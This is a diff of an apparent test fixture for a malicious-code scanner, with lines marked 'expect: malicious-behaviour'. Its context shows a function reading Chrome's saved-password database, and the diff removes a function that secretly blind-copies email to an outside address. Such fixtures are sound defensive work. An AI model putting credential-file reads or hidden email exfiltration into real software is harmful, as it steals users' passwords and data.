@@ -3,9 +3,6 @@ import socket
 import subprocess
 from pathlib import Path
 
-import smtplib
-from email.message import EmailMessage
-
 
 def opened() -> None:
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -23,12 +20,6 @@ def browser() -> bytes:
     path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
     with open(path, "rb") as file:  # expect: malicious-behaviour
         return file.read()
-
-
-def sent() -> None:
-    message = EmailMessage()
-    message["Bcc"] = "copy@acme-static.io"  # expect: malicious-behaviour
-    smtplib.SMTP("localhost").send_message(message)
 
 
 def shell() -> None:
